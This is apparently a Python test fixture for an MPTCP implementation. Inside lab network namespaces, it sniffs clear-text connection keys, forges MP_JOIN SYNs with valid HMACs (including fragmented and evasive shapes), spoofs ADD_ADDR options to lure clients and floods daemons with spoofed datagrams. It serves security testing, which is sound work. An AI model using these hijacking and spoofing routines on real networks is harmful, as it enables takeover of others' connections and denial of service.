"""Somebody who has seen the first handshake of a connection, and what he makes of it.

Both keys of a connection travel in clear (RFC 8684, 3.1). The Tap, on a router in the middle, reads
them. The Attacker is in a namespace of its own behind the same router, and has networks full of
addresses that its kernel doesn't own, so that its kernel answers to nothing that comes there. From
these it joins connections with right HMACs (3.2), lures clients by ADD_ADDR (3.4.1) in segments
with other people's addresses, and sends datagrams, of its own or somebody else's.
"""

import contextlib
import dataclasses
import os
import select
import socket
import struct
import subprocess
import time

import nets
import sandbox
from lab import PATIENCE, SERVER, Failed, Lab, ip_batch
from programs import Build, Process
from segments import (ACK, ADD_ADDR, FIN, MP_CAPABLE, MP_JOIN, OPTION_MPTCP, OPTION_STAMPS, RST,
                      SYN, Capture, Datagram, mac, small_ones, token_of)

NETNS = "attacker"
FLOOD = "tests/net/flood"  # below the build directory
DEVICE = "evil0"  # the router's
OWN4, NEAR4, NET4 = "10.250.0.1", "10.250.0.254", "10.66"
OWN6, NEAR6, NET6 = "2001:db8:c8ff::1", "2001:db8:c8ff::fe", "2001:db8:6666::"
PORT = 8684  # of the daemons
SMALL = 400  # bytes; longer packets are bulk, and nothing is to be learned from them
WINDOW = 65000
FIRST_PORT = 20000
HOPS = 64
FRAGMENT, EXTENSION = 44, 60  # headers of IPv6
NOP, MSS = b"\1", struct.pack("!BBH", 2, 4, 1400)


def add32(number, more):
    return (number + more) & 0xffffffff


def _checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def _family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def _raw(address):
    return socket.inet_pton(_family(address), address)


def ip_packet(source, target, protocol, payload):
    """The kernel fills in the checksum of IPv4."""
    if _family(source) == socket.AF_INET6:
        return struct.pack("!IHBB", 6 << 28, len(payload), protocol, HOPS) + _raw(source) + \
            _raw(target) + payload
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, HOPS, protocol, 0) + \
        _raw(source) + _raw(target) + payload


def _fragments(packet, length):
    """The packet in two; length: bytes of the first one's payload, a multiple of 8.

    Or in one, of IPv6, with the header of a fragment all the same.
    """
    number = os.urandom(3)
    if packet[0] >> 4 == 6:
        head, rest = packet[:40], packet[40:]
        parts = ((rest[:length], 1), (rest[length:], length)) if length else ((rest, 0),)
        return [head[:4] + struct.pack("!HB", 8 + len(part), FRAGMENT) + head[7:]
                + struct.pack("!BBH", head[6], 0, field) + b"\1" + number + part
                for part, field in parts]
    head, rest = packet[:20], packet[20:]
    parts = ((rest[:length], 1 << 13), (rest[length:], length // 8))
    return [head[:2] + struct.pack("!H", 20 + len(part)) + b"\1" + number[:1]
            + struct.pack("!H", field) + head[8:] + part for part, field in parts]


def _extended(packet):
    """An IPv6 packet with a header between that says nothing: destination options, padding."""
    return packet[:4] + struct.pack("!HB", len(packet) - 40 + 8, EXTENSION) + packet[7:40] + \
        struct.pack("!BBBB4x", packet[6], 0, 1, 4) + packet[40:]


def transport_sum(source, target, protocol, payload):
    """Over the pseudo header too; it's of the same sum for both families."""
    return _checksum(_raw(source) + _raw(target) + struct.pack("!II", len(payload), protocol)
                     + payload)


def tcp_packet(source, target, ports, numbers, flags, options):
    """A segment without payload. ports, numbers: pairs (ours, theirs)."""
    options += NOP * (-len(options) % 4)
    head = struct.pack("!HHIIBBH", *ports, *numbers, (20 + len(options)) // 4 << 4, flags, WINDOW)
    total = transport_sum(source, target, socket.IPPROTO_TCP, head + b"\0" * 4 + options)
    return ip_packet(source, target, socket.IPPROTO_TCP,
                     head + struct.pack("!HH", total, 0) + options)


def udp_packet(source, target, ports, data):
    head = struct.pack("!HHH", *ports, 8 + len(data))
    total = transport_sum(source, target, socket.IPPROTO_UDP, head + b"\0\0" + data)
    return ip_packet(source, target, socket.IPPROTO_UDP,
                     head + struct.pack("!H", total or 0xffff) + data)


@dataclasses.dataclass
class Handshake:
    """What a tap has learned of a connection. Numbers: of the next byte that each end will send."""
    client: tuple  # address and port
    server: tuple
    client_key: bytes
    server_key: bytes
    client_next: int = 0
    server_next: int = 0
    client_stamp: int | None = None
    server_stamp: int | None = None

    @property
    def token(self):
        """The server's: what a join names."""
        return token_of(self.server_key)

    def reversed(self, target):
        """For joins in the server's name, to an address and port where the client listens."""
        return Handshake(self.server, target, self.server_key, self.client_key)

    def follow(self, segment):
        """A segment of the first subflow."""
        side = "client" if (segment.source, segment.sport) == self.client else "server"
        setattr(self, f"{side}_next", add32(segment.seq, segment.length()))
        setattr(self, f"{side}_stamp", segment.stamps and segment.stamps[0])


class Tap:
    """Reads along in a namespace: keys of connections, and what daemons say to each other.

    Not what comes from the attacker, who can send more than anybody wants to read.
    """

    def __init__(self, netns=SERVER):
        self.capture = Capture(netns, small_ones(SMALL, _raw(f"{NET4}.0.0")))
        self.handshakes = {}  # by (address, port) of the client, and the server's
        self.datagrams = []

    def _see(self, packet):
        if isinstance(packet, Datagram):
            if PORT in (packet.sport, packet.dport):
                self.datagrams.append(packet)
            return
        keys = packet.options.get(MP_CAPABLE, b"")
        client, server = (packet.source, packet.sport), (packet.target, packet.dport)
        if len(keys) >= 20 and not packet.flags & SYN:
            self.handshakes.setdefault((client, server),
                                       Handshake(client, server, keys[4:12], keys[12:20]))
        if victim := self.handshakes.get((client, server), self.handshakes.get((server, client))):
            victim.follow(packet)

    def read(self):
        """Takes in what has come until now."""
        for packet in self.capture.packets():
            self._see(packet)

    def victim(self, client, server):
        """The Handshake of the connection of these (address, port). Failed if it wasn't seen."""
        self.read()
        if (client, server) not in self.handshakes:
            raise Failed(f"no handshake of {client} was seen")
        return self.handshakes[client, server]

    def messages(self, kind):
        """Datagrams of that type, each once, however many devices it went by."""
        self.read()
        found = {each.data: each for each in self.datagrams
                 if each.data[:4] == b"MPAH" and each.data[5] == kind}
        return list(found.values())


@dataclasses.dataclass
class Attempt:
    """A join of the attacker's."""
    victim: Handshake
    source: tuple
    target: tuple
    nonce: bytes
    seq: int
    right: bool  # its HMAC
    answered: bool = False  # by a SYN/ACK with the right HMAC of the server
    refused: bool = False  # by an RST
    proved: bool = False  # the server has acknowledged something after the third ACK
    payload: int = 0  # bytes of the connection that it was sent


def mp_join(token, nonce):
    """The option of a SYN."""
    return struct.pack("!BBBB4s4s", OPTION_MPTCP, 12, MP_JOIN << 4, 77, token, nonce)


def _syn(attempt, before=b"", after=b""):
    """The SYN of an attempt, with other options around that which matters."""
    options = before + mp_join(attempt.victim.token, attempt.nonce) + after
    return tcp_packet(attempt.source[0], attempt.target[0],
                      (attempt.source[1], attempt.target[1]), (attempt.seq, 0), SYN, options)


# What the SYN of a join can look like, all of it the same to a kernel: name -> packets.
SHAPES = {
    "plain": lambda attempt: [_syn(attempt, MSS)],
    "first": lambda attempt: [_syn(attempt)],
    "odd": lambda attempt: [_syn(attempt, NOP)],
    "late": lambda attempt: [_syn(attempt, MSS + NOP * 24)],
    "after another": lambda attempt: [_syn(attempt, mp_join(os.urandom(4), os.urandom(4)))],
    "in fragments": lambda attempt: _fragments(_syn(attempt, MSS), 24),
}
SHAPES6 = {  # of IPv6 alone
    "extended": lambda attempt: [_extended(_syn(attempt, MSS))],
    "in one fragment": lambda attempt: _fragments(_syn(attempt, MSS), 0),
}
SHAPES |= SHAPES6


@dataclasses.dataclass
class Lured:
    """A client that has joined the attacker's address."""
    source: tuple
    target: tuple
    nonce: bytes  # ours
    theirs: bytes
    victim: Handshake
    proved: bool = False  # its third ACK had the right HMAC: its kernel has a subflow


class Attacker:
    """In a namespace of its own."""

    def __init__(self, lab):
        self.attempts = {}  # by (source, target)
        self.lured = {}
        self.baits = {}  # (address, port) that clients are lured to: victim
        self.datagrams = []  # that came
        self.used = 0
        self._build()
        with sandbox.inside(NETNS):
            self.sockets = {family: socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
                            for family in (socket.AF_INET, socket.AF_INET6)}
        self.capture = Capture(NETNS)
        self.capture.ignore_outgoing()
        lab.networks.append(self)
        self.poll = select.poll()
        self.poll.register(self.capture.socket, select.POLLIN)

    @staticmethod
    def _build():
        ip_batch([f"netns add {NETNS}"])
        with sandbox.inside(NETNS):
            Lab.set_sysctls()
        with sandbox.inside(SERVER):
            ip_batch([f"link add {DEVICE} type veth peer name up0 netns {NETNS}",
                      f"link set {DEVICE} up", f"addr add {NEAR4}/24 dev {DEVICE}",
                      f"addr add {NEAR6}/64 dev {DEVICE} nodad"])
        with sandbox.inside(NETNS):
            ip_batch(["link set lo up", "link set up0 up", f"addr add {OWN4}/24 dev up0",
                      f"addr add {OWN6}/64 dev up0 nodad", f"route add default via {NEAR4}",
                      f"route add default via {NEAR6}"])
        with sandbox.inside(SERVER):
            ip_batch([f"route add {NET4}.0.0/16 via {OWN4}", f"route add {NET6}/64 via {OWN6}"])

    def end(self):
        for each in (*self.sockets.values(), self.capture):
            each.close()
        with sandbox.inside(SERVER):
            subprocess.run(["ip", "link", "del", DEVICE], capture_output=True, check=False)
        subprocess.run(["ip", "netns", "del", NETNS], capture_output=True, check=False)

    def address(self, number, family=socket.AF_INET):
        """One of its many addresses."""
        if family == socket.AF_INET6:
            return f"{NET6}{number + 1:x}"
        return f"{NET4}.{number >> 8 & 255}.{number & 255}"

    def _source(self, target):
        """An address and port that were not used yet."""
        self.used += 1
        return (self.address(self.used % 60000, _family(target)), FIRST_PORT + self.used % 40000)

    # sending

    def send(self, packet):
        """A whole IP packet, whosever addresses it has."""
        if packet[0] >> 4 == 6:
            to, family = socket.inet_ntop(socket.AF_INET6, packet[24:40]), socket.AF_INET6
        else:
            to, family = socket.inet_ntop(socket.AF_INET, packet[16:20]), socket.AF_INET
        self.sockets[family].sendto(packet, (to, 0))

    def say(self, data, target, source=None, sport=PORT):
        """A datagram to a daemon."""
        source = source or self.address(0, _family(target))
        self.send(udp_packet(source, target, (sport, PORT), data))

    def join(self, victim, count=1, right=True, source=None, shape="plain"):
        """SYNs with MP_JOIN, as if from the client of that connection. Attempts.

        source: an address of the attacker's; else each has another one. shape: of SHAPES.
        """
        sources = (self._source(victim.server[0]) for _ in range(count))
        return [self._join(victim, (source or each[0], each[1]), right, shape)
                for each in sources]

    def _join(self, victim, source, right, shape):
        attempt = Attempt(victim, source, victim.server, os.urandom(4),
                          int.from_bytes(os.urandom(4), "big"), right)
        self.attempts[source, victim.server] = attempt
        for packet in SHAPES[shape](attempt):
            self.send(packet)
        return attempt

    def announce(self, victim, address, number):
        """Tells the client, in the server's name, of an address of the server's: the attacker's."""
        text = struct.pack("!B", number) + _raw(address) + struct.pack("!H", 0)
        proof = mac(victim.server_key + victim.client_key, text)[-8:]
        body = _raw(address) + proof
        option = struct.pack("!BBBB", OPTION_MPTCP, 4 + len(body), ADD_ADDR << 4, number) + body
        if victim.server_stamp is not None:
            option += struct.pack("!BBBBII", 1, 1, OPTION_STAMPS, 10, victim.server_stamp,
                                  victim.client_stamp or 0)
        self.baits[address, victim.server[1]] = victim
        self.send(tcp_packet(victim.server[0], victim.client[0],
                             (victim.server[1], victim.client[1]),
                             (victim.server_next, victim.client_next), ACK, option))

    def flood(self, lab, target, length, head=b"", rate=100_000):
        """Datagrams to a daemon, as fast as that, from everywhere. A Flood."""
        return Flood(lab, [f"{NET4}.0.0", target, PORT, rate, length, head.hex()])

    # receiving

    def read(self):
        """Answers what has come until now."""
        for packet in self.capture.packets():
            if isinstance(packet, Datagram):
                self.datagrams.append(packet)
                continue
            source, target = (packet.target, packet.dport), (packet.source, packet.sport)
            if attempt := self.attempts.get((source, target)):
                self._answer(attempt, packet)
            elif source in self.baits:
                self._welcome(packet, source, target)

    def _answer(self, attempt, segment):
        victim, theirs = attempt.victim, segment.options.get(MP_JOIN, b"")
        if segment.flags & RST:
            attempt.refused = True
        elif segment.flags & SYN and len(theirs) == 16:
            nonce = theirs[12:16]
            expected = mac(victim.server_key + victim.client_key, nonce + attempt.nonce)[:8]
            if theirs[4:12] != expected:
                raise Failed("the server's HMAC is wrong: the keys are not those of the connection")
            attempt.answered = True
            proof = mac(victim.client_key + victim.server_key, attempt.nonce + nonce)[:20]
            if not attempt.right:
                proof = bytes([proof[0] ^ 1]) + proof[1:]
            option = struct.pack("!BBBB", OPTION_MPTCP, 24, MP_JOIN << 4, 0) + proof
            self.send(tcp_packet(attempt.source[0], attempt.target[0],
                                 (attempt.source[1], attempt.target[1]),
                                 (add32(attempt.seq, 1), add32(segment.seq, 1)), ACK, option))
        elif segment.flags & ACK and not segment.flags & (SYN | FIN):
            attempt.proved = True
            attempt.payload += segment.payload

    def _welcome(self, segment, here, there):
        """A client that has come to a bait: joins are accepted, as a server does."""
        victim, theirs = self.baits[here], segment.options.get(MP_JOIN, b"")
        if segment.opens() and len(theirs) == 12:
            lured = Lured(there, here, os.urandom(4), theirs[8:12], victim)
            self.lured[there, here] = lured
            proof = mac(victim.server_key + victim.client_key, lured.nonce + lured.theirs)[:8]
            option = struct.pack("!BBBB8s4s", OPTION_MPTCP, 16, MP_JOIN << 4, 77, proof,
                                 lured.nonce)
            self.send(tcp_packet(here[0], there[0], (here[1], there[1]),
                                 (1000, add32(segment.seq, 1)), SYN | ACK,
                                 MSS + option))
        elif len(theirs) == 24 and (lured := self.lured.get((there, here))):
            lured.proved = theirs[4:] == mac(victim.client_key + victim.server_key,
                                             lured.theirs + lured.nonce)[:20]

    def until(self, predicate, what, timeout=PATIENCE):
        """Goes on answering until predicate() is true. Failed after timeout seconds."""
        end = time.monotonic() + timeout
        while True:
            self.poll.poll(10)
            self.read()
            with contextlib.suppress(Failed, LookupError):
                if predicate():
                    return
            if time.monotonic() > end:
                raise Failed(f"not within {timeout:.0f} s: {what}")

    def answered(self):
        """How many of its SYNs got a SYN/ACK."""
        self.read()
        return sum(attempt.answered for attempt in self.attempts.values())


class Flood:
    """The program of flood.c, as a context: it goes on in the with block."""

    def __init__(self, lab, argv):
        self.lab = lab
        self.process = lab.add(Process([f"{Build.find().root}/{FLOOD}", *map(str, argv)], "flood",
                                       netns=NETNS, stdin=subprocess.PIPE, stdout=subprocess.PIPE))
        if self.process.popen.stdout.readline() != b"ready\n":
            raise Failed(f"flood {self.process.state()}: {self.process.log_text().strip()}")

    def __enter__(self):
        self.begun = nets.sent(NETNS, "up0", nets.PACKETS)
        return self

    def sent(self):
        """Datagrams, with the little that the attacker sends beside them."""
        return nets.sent(NETNS, "up0", nets.PACKETS) - self.begun

    def __exit__(self, *_exc):
        output = self.process.popen.communicate(timeout=PATIENCE)[0].split()
        if len(output) == 2:
            count, milliseconds = map(int, output)
            self.lab.note(f"{count} datagrams, {count * 1000 // max(1, milliseconds)} a second")
